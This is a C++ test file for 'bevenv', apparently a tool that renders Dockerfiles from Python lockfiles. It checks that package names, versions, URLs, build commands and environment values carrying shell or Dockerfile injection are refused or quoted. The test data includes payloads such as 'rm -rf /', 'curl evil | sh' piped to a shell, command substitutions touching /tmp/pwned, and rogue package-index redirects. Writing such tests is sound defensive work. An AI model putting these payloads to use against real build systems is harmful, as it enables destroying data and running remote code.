// Text from a lockfile never changes the meaning of a shell line or a Dockerfile.
#include <catch2/catch.hpp>

#include "bevenv/containers/dockerfile.hpp"
#include "bevenv/core/error.hpp"
#include "bevenv/core/subprocess.hpp"
#include "bevenv/util/text.hpp"
#include "safe_text.hpp"
#include "test_locks.hpp"
#include "thrown_error.hpp"

using namespace bevenv;
using namespace bevenv::containers;

namespace {

void require_rejected(const lockfiles::Lockfile& lock, const std::string& mentions,
                      ImageOptions options = {}) {
  const auto e = bevenv::testing::thrown_error([&] { render_image_files(lock, options); });
  REQUIRE(e.has_value());
  CHECK(e->code() == core::ExitCode::bad_input);
  std::string all = e->what();
  for (const auto& cause : e->causes()) all += "\n" + cause;
  INFO(all);
  CHECK(all.find(mentions) != std::string::npos);
}

}  // namespace

TEST_CASE("shell_quote round-trips through sh", "[containers][quoting]") {
  const std::vector<std::string> texts = {
      "plain-1.0", "a b", "it's", "$(touch /tmp/pwned)", "`id`", "a;b&&c|d", "back\\slash",
      "",          "'",   "x\"y", "7.0;8.6+PTX",         "*?[]"};
  for (const auto& text : texts) {
    const auto result = core::run_process({"sh", "-c", "printf '%s' " + util::sh_word(text)});
    INFO(text);
    CHECK(result.exit_code == 0);
    CHECK(result.out == text);
  }
}

TEST_CASE("names, versions and markers that would inject are refused", "[containers][quoting]") {
  auto lock = test::smoke_lock();
  lock.packages[0].name = "packaging; rm -rf /";
  require_rejected(lock, "package[0].name");

  lock = test::smoke_lock();
  lock.packages[0].version = "24.1 --index-url http://evil";
  require_rejected(lock, "package[0].version");

  lock = test::smoke_lock();
  lock.packages[0].markers = "python_version >= \"3\"\n--extra-index-url http://evil";
  require_rejected(lock, "package[0].markers");

  lock = test::smoke_lock();
  lock.packages[0].source = {lockfiles::SourceKind::find_links, "http://x/ --trusted-host evil"};
  require_rejected(lock, "package[0].source.url");
}

TEST_CASE("Dockerfile-breaking text is refused", "[containers][quoting]") {
  auto lock = test::uniad_command_lock();
  lock.builds[0].commands = {"pip install .\nRUN curl evil | sh"};
  require_rejected(lock, "build[0].commands[0]");

  lock = test::uniad_command_lock();
  lock.builds[0].commands = {"pip install . \\"};
  require_rejected(lock, "build[0].commands[0]");

  lock = test::smoke_lock();
  lock.environment.base_image.tag = "debian:bookworm\nRUN evil";
  require_rejected(lock, "environment.base_image.tag");

  lock = test::bevfusion_lock();
  lock.builds[0].working_dir = "/workspace/../../etc";
  ImageOptions with_project;
  with_project.with_project = true;
  require_rejected(lock, "working_dir", with_project);

  ImageOptions mirror;
  mirror.base_image = "mirror.example.org/cuda:11.3 && curl evil";
  require_rejected(test::smoke_lock(), "--base-image", mirror);

  lock = test::smoke_lock();
  lock.environment.variables["HTTP_PROXY"] = "http://proxy\nRUN evil";
  require_rejected(lock, "environment.variables.HTTP_PROXY");
}

TEST_CASE("ENV values are quoted for the Dockerfile", "[containers][quoting]") {
  CHECK(detail::dockerfile_quote(R"(a "b" $HOME \c)") == R"("a \"b\" \$HOME \\c")");
  auto lock = test::smoke_lock();
  lock.environment.variables["BEVENV_TRICKY"] = R"(a "b" $HOME \c)";
  const auto files = render_image_files(lock, ImageOptions{});
  CHECK(files.dockerfile.find(R"(BEVENV_TRICKY="a \"b\" \$HOME \\c")") != std::string::npos);
}

TEST_CASE("an sdist build keeps its URL out of every shell line", "[containers][quoting]") {
  auto lock = test::smoke_lock();
  const std::string url = "http://127.0.0.1:1/x;touch$IFS/tmp/pwned;/a$(id)b/it's-1.0.tar.gz?a=1&b";
  lockfiles::Package p = test::wheel("evil", "1.0", "evil-1.0.tar.gz");
  p.artifacts[0].url = url;
  lock.packages.push_back(p);
  lockfiles::BuildStep step;
  step.name = "evil-sdist";
  step.package = "evil";
  step.source = p.artifacts[0];
  lock.builds.push_back(step);

  const auto files = render_image_files(lock, ImageOptions{});
  CHECK(files.dockerfile.find("touch") == std::string::npos);
  CHECK(files.dockerfile.find("COPY build-evil.txt /opt/bevenv/build-evil.txt") !=
        std::string::npos);
  CHECK(files.dockerfile.find("pip install --no-deps --no-build-isolation --require-hashes -r "
                              "/opt/bevenv/build-evil.txt") != std::string::npos);
  // One way in: the locked install leaves the package to its build.
  CHECK(files.requirements.find("\nevil==") == std::string::npos);
  CHECK(files.built_in_image == std::vector<std::string>{"evil"});
  REQUIRE(files.build_requirements.size() == 1);
  CHECK(files.build_requirements[0].first == "build-evil.txt");
  CHECK(files.build_requirements[0].second.find(
            "\n" + url + " \\\n    --hash=sha256:" + *p.artifacts[0].sha256) != std::string::npos);

  // URLs RFC 3986 forbids never get this far.
  for (const std::string bad : {"http://h/a b.tar.gz", "http://h/`id`.tar.gz", "http://h/${IFS}"}) {
    auto edited = lock;
    edited.builds[0].source->url = bad;
    require_rejected(edited, "build[0].source.url");
  }
  auto local = lock;
  local.builds[0].source->url = "file:///etc/evil-1.0.tar.gz";
  require_rejected(local, "build[0].source.url");
  auto commands = lock;
  commands.builds[0].commands = {"echo hi"};
  require_rejected(commands, "build[0].commands");
}

TEST_CASE("a package without a hash keeps its URL out of every shell line",
          "[containers][quoting]") {
  auto lock = test::smoke_lock();
  const std::string url =
      "http://127.0.0.1:1/x;touch$IFS/tmp/pwned;/a$(id)b/evil-1.0-py3-none-any.whl";
  lockfiles::Package p = test::wheel("evil", "1.0", "evil-1.0-py3-none-any.whl");
  p.artifacts[0].url = url;
  p.artifacts[0].sha256.reset();
  lock.packages.push_back(p);
  const auto files = render_image_files(lock, ImageOptions{});
  CHECK(files.dockerfile.find("touch") == std::string::npos);
  CHECK(files.dockerfile.find(
            "COPY requirements.unhashed.txt /opt/bevenv/requirements.unhashed.txt") !=
        std::string::npos);
  // A bare URL line: pip splits `NAME @ URL` at its first `;`, a URL line only at `; `.
  CHECK(files.unhashed_requirements.find("\n" + url + "\n") != std::string::npos);
  CHECK(files.requirements.find("\nevil==") == std::string::npos);

  for (const std::string bad : {"http://h/a b.whl", "http://h/`id`.whl", "file:///srv/evil.whl"}) {
    auto edited = lock;
    edited.packages[2].artifacts[0].url = bad;
    require_rejected(edited, "package[0].artifacts[0].url");  // canonical order: evil first
  }
}
